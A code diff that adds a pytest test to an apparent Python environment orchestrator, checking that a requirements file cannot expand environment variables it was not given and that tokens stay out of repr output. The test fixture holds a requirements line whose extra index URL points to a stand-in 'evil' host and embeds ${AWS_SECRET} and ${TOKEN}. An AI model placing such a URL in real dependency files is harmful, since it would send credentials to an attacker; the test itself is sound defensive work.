@@ -15,6 +15,7 @@ import pytest
 from wheels import make_index, make_wheel
 
 from orchestrator.environments import EnvironmentRequest, Environments, check_request, check_requirement
+from orchestrator.environments.request import read
 from orchestrator.environments.settings import UvSettings, uv_settings
 from orchestrator.environments.uv import IndexAway, explain, failure
 from orchestrator.errors import BuildFailed, DiskFull, InvalidConfig
@@ -90,6 +91,19 @@ def test_pip_conf_names_a_folder_and_an_index(home: Home, variables: dict[str, s
         os.chdir(cwd)
     assert environments.ensure(request("tiny", "small"), log, never).packages == ("small==2.0", "tiny==1.0")
     assert "nowhere/simple is left out" in log.read_text()
+
+
+def test_a_requirements_file_learns_no_variable_but_those_it_is_given(
+    variables: dict[str, str], tmp_path: Path
+) -> None:
+    text = "--extra-index-url https://evil/${AWS_SECRET}/${TOKEN}/simple\n--find-links ${FOLDER}/wheels\ntiny\n"
+    file = RequirementFile("requirements.txt", text)
+    asked = read(EnvironmentRequest("", (), (file,), variables={"TOKEN": "mine", "FOLDER": str(tmp_path)}))
+    found = uv_settings(variables | {"AWS_SECRET": "hidden", "TOKEN": "other"}, tmp_path, asked.options)
+    assert found.env["UV_INDEX"].split()[0] == "https://evil/${AWS_SECRET}/mine/simple"
+    assert asked.options["find-links"] == (f"{tmp_path}/wheels",)
+    assert any(note.startswith("${AWS_SECRET} in a requirements file stays as it is: ") for note in found.notes)
+    assert "mine" not in repr(EnvironmentRequest(variables={"TOKEN": "mine"}))
 
 
 def test_pip_order(variables: dict[str, str], tmp_path: Path) -> None:
